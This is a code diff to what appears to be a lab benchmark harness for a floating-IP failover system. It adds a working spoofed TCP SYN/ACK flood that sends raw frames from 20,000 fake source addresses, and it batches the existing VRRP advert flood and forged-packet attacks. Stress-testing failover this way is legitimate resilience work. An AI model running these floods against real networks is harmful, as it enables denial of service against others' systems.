@@ -3,6 +3,7 @@
 python -m bench.attackers clients PATH LINE NUMBER BYTES SECONDS AGAIN
 python -m bench.attackers flood ADDRESS A_SECOND SECONDS
 python -m bench.attackers forge ADDRESS A_SECOND SECONDS SOURCE
+python -m bench.attackers tcp ADDRESS A_SECOND SECONDS PORT syn|ack DEVICE ETHERNET
 python -m bench.attackers delete ADDRESS A_SECOND SECONDS
 python -m bench.attackers freeze TIMES LENGTH SECONDS PID ...
 
@@ -32,6 +33,8 @@ from floatip.lab.network import FLOATING
 VRID = 51
 BATCH = 100
 LARGEST = 1 << 18
+STRANGERS = 20_000
+SYN, ACK = 0x02, 0x10
 
 
 def clients(path: str, line: str, number: int, size: int, seconds: float, again: bool) -> dict[str, float]:
@@ -108,7 +111,7 @@ def flood(address: str, a_second: float, seconds: float) -> dict[str, float]:
         raw.connect((address, 0))
         source = IPv4Address(raw.getsockname()[0])
         data = pack(Advert(3, VRID, 255, 0.1, (FLOATING.ip,)), source, IPv4Address(address))
-        return _repeat(raw, data, a_second, seconds)
+        return _repeat(raw, [data] * BATCH, a_second, seconds)
 
 
 def forge(address: str, a_second: float, seconds: float, source: str) -> dict[str, float]:
@@ -121,16 +124,67 @@ def forge(address: str, a_second: float, seconds: float, source: str) -> dict[st
     ends = IPv4Address(source).packed + IPv4Address(address).packed
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         raw.connect((address, 0))
-        return _repeat(raw, fixed + ends + udp, a_second, seconds)
+        return _repeat(raw, [fixed + ends + udp] * BATCH, a_second, seconds)
 
 
-def _repeat(raw: socket.socket, data: bytes, a_second: float, seconds: float) -> dict[str, float]:
-    libc = ctypes.CDLL(None, use_errno=True)
-    buffer = _Buffer(data, len(data))
-    message = _Message(_Header(buffers=ctypes.pointer(buffer), buffers_count=1))
-    messages = (_Message * BATCH)(*[message] * BATCH)
-    sent = sum(max(0, libc.sendmmsg(raw.fileno(), messages, BATCH, 0)) for _ in _pace(a_second / BATCH, seconds))
-    return {"a_second": sent / seconds}
+def tcp(
+    address: str, a_second: float, seconds: float, port: str, kind: str, device: str, ethernet: str
+) -> dict[str, float]:
+    """SYNs, or ACKs that belong to no connection, from addresses that lead nowhere. `ethernet`: their header (hex)."""
+    frames = [
+        bytes.fromhex(ethernet)
+        + tcp_packet((f"192.168.{130 + number % 8}.{1 + number // 8 % 250}", 1024 + number), (address, int(port)), kind)
+        for number in range(STRANGERS)
+    ]
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind((device, 0))
+        return _repeat(raw, frames, a_second, seconds)
+
+
+def tcp_packet(source: tuple[str, int], destination: tuple[str, int], kind: str) -> bytes:
+    """With its IP header."""
+    ends = b"".join(IPv4Address(address).packed for address, _ in (source, destination))
+    ports = struct.pack("!HH", source[1], destination[1])
+    numbers = struct.pack("!II", source[1] * 40_000, 0 if kind == "syn" else 1)
+    said = ports + numbers + struct.pack("!BBH", 5 << 4, SYN if kind == "syn" else ACK, 64_000)
+    checksum = checksum_of(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20) + said)  # RFC 9293 section 3.1
+    fixed = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
+    header = fixed[:10] + struct.pack("!H", checksum_of(fixed + ends)) + ends
+    return header + said + struct.pack("!HH", checksum, 0)
+
+
+def checksum_of(octets: bytes) -> int:
+    """RFC 1071."""
+    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+class Packets:
+    """To send many of them with few calls, over and over."""
+
+    def __init__(self, sending: socket.socket, packets: Sequence[bytes]) -> None:
+        """The socket knows where to."""
+        self._libc = ctypes.CDLL(None, use_errno=True)
+        self._sending = sending
+        self._count = len(packets)
+        self._buffers = [_Buffer(data, len(data)) for data in packets]
+        headers = [_Header(buffers=ctypes.pointer(each), buffers_count=1) for each in self._buffers]
+        self._messages = (_Message * self._count)(*map(_Message, headers))
+        self._next = 0
+
+    def send(self) -> int:
+        """A batch; how many were sent."""
+        count = min(BATCH, self._count - self._next)
+        begin = ctypes.byref(self._messages, self._next * ctypes.sizeof(_Message))
+        self._next = (self._next + count) % self._count
+        return max(0, int(self._libc.sendmmsg(self._sending.fileno(), begin, count, 0)))
+
+
+def _repeat(raw: socket.socket, packets: Sequence[bytes], a_second: float, seconds: float) -> dict[str, float]:
+    sending = Packets(raw, packets)
+    return {"a_second": sum(sending.send() for _ in _pace(a_second / BATCH, seconds)) / seconds}
 
 
 def delete(address: str, a_second: float, seconds: float) -> dict[str, float]:
@@ -176,7 +230,12 @@ def main() -> None:
         told = freeze(int(times), float(length), float(seconds), [int(pid) for pid in pids])
     else:
         address, a_second, seconds, *source = rest
-        attacks: dict[str, Callable[..., dict[str, float]]] = {"flood": flood, "forge": forge, "delete": delete}
+        attacks: dict[str, Callable[..., dict[str, float]]] = {
+            "flood": flood,
+            "forge": forge,
+            "tcp": tcp,
+            "delete": delete,
+        }
         told = attacks[what](address, float(a_second), float(seconds), *source)
     usage = resource.getrusage(resource.RUSAGE_SELF)
     print(json.dumps({**told, "began": began, "cpu": usage.ru_utime + usage.ru_stime}))
